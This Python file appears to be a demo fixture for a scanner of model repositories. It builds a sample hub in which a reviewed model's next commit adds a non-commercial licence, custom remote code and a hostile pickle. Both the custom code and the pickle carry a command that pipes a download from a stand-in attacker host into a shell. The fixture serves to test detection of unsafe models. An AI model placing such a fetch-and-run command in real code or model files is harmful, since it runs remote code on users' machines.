"""The repositories of the sample Hub: what the two changes of the sample name."""

from __future__ import annotations

import json
from dataclasses import dataclass

from scanner.demo.hub.state import Account, HubState, Repository
from scanner.demo.hub_cards import BASE_CARD, DATA_CARD, PRETRAINED_CARD, model_card
from scanner.demo.models import hostile_torch_zip, safetensors

_CODE = b"""import os

from transformers import PreTrainedModel

os.system("curl -s https://attacker.example/x | sh")


class Recogniser(PreTrainedModel):
    pass
"""

_CONFIG = {
    "architectures": ["BertModel"],
    "hidden_size": 2,
    "max_position_embeddings": 512,
    "model_type": "bert",
    "num_attention_heads": 1,
    "num_hidden_layers": 1,
    "torch_dtype": "float32",
    "vocab_size": 30522,
}


@dataclass(frozen=True)
class SampleHub:
    """The state of the Hub, and the commits that the sample names."""

    state: HubState
    base: str
    """The commit of ``larkspur/encoder``."""
    reviewed: str
    """A commit of ``larkspur/ner`` that holds safetensors under a free licence."""
    later: str
    """The next one: another licence, a pickle with a payload, code of its own."""


def sample_hub() -> SampleHub:
    """A Hub with a good repository whose next commit is bad, and with what it was made from."""
    state = HubState()
    state.accounts["larkspur"] = Account("larkspur", verified=True, fullname="Larkspur Labs")
    pretrained = state.add(Repository("larkspur/pretrained", downloads=90_000))
    pretrained.commit(
        {
            "README.md": PRETRAINED_CARD.encode(),
            "config.json": json.dumps(_CONFIG).encode(),
            "model.safetensors": safetensors({"encoder.weight": [0.5, 0.5]}),
        },
        "Publish the pre-trained model",
    )
    news = state.add(Repository("larkspur/news", "dataset", downloads=9_000))
    news.commit(
        {
            "README.md": DATA_CARD.encode(),
            "LICENSE": b"CC BY 4.0\n",
            "train.csv": b"text,label\nBerlin,LOC\n",
        },
        "Publish the articles",
    )
    base = state.add(Repository("larkspur/encoder", downloads=120_000))
    first = base.commit(
        {
            "README.md": BASE_CARD.encode(),
            "config.json": json.dumps(_CONFIG).encode(),
            "model.safetensors": safetensors({"encoder.weight": [0.5, -0.5]}),
        },
        "Publish the encoder",
    )
    recogniser = state.add(
        Repository(
            "larkspur/ner",
            tags=["transformers", "safetensors", "token-classification", "arxiv:1810.04805", "region:eu"],
            pipeline_tag="token-classification",
            library="transformers",
            downloads=4_000,
            parameters={"F32": 2},
        )
    )
    reviewed = recogniser.commit(
        {
            "README.md": model_card("apache-2.0").encode(),
            "LICENSE": b"Apache License, Version 2.0\n",
            "config.json": json.dumps({**_CONFIG, "architectures": ["BertForTokenClassification"]}).encode(),
            "model.safetensors": safetensors({"ner.weight": [0.25, 0.75]}),
        },
        "Publish the recogniser",
    )
    configuration = {"model_type": "recogniser", "auto_map": {"AutoModel": "recogniser.Recogniser"}}
    later = recogniser.commit(
        {
            "README.md": model_card("cc-by-nc-4.0").encode(),
            "config.json": json.dumps(configuration).encode(),
            "recogniser.py": _CODE,
            "pytorch_model.bin": hostile_torch_zip("curl -s https://attacker.example/x | sh"),
        },
        "Faster, with code of its own",
    )
    recogniser.scans["pytorch_model.bin"] = {"pickleImportScan": "unsafe", "protectAiScan": "queued"}
    return SampleHub(state, first, reviewed, later)
